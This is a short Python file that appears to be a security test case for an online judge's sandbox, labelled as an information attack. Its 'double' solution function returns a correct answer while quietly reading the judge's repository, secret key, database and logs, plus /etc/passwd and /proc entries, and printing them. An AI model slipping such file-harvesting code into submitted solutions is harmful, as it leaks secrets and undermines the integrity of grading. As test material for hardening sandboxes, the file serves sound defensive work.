# attack: read the judge's files: the repository, references, problems, database, secret key, cache, logs
# category: information
# expect: AC
import json
import os

PATHS = json.loads('__TJ_HOST_PATHS__')


def double(x):
    found = {}
    for p in PATHS:
        if os.path.isdir(p):
            found[p] = os.listdir(p)[:50]
        elif os.path.exists(p):
            try:
                found[p] = open(p, "rb").read(4096).decode(errors="replace")
            except OSError as e:
                found[p] = str(e)
    for p in ("/etc/passwd", "/etc/hostname", "/proc/self/mountinfo", "/proc/self/cgroup"):
        try:
            found[p] = open(p).read()[:2000]
        except OSError:
            pass
    print(json.dumps(found))
    return (2 * x).reshape(-1)
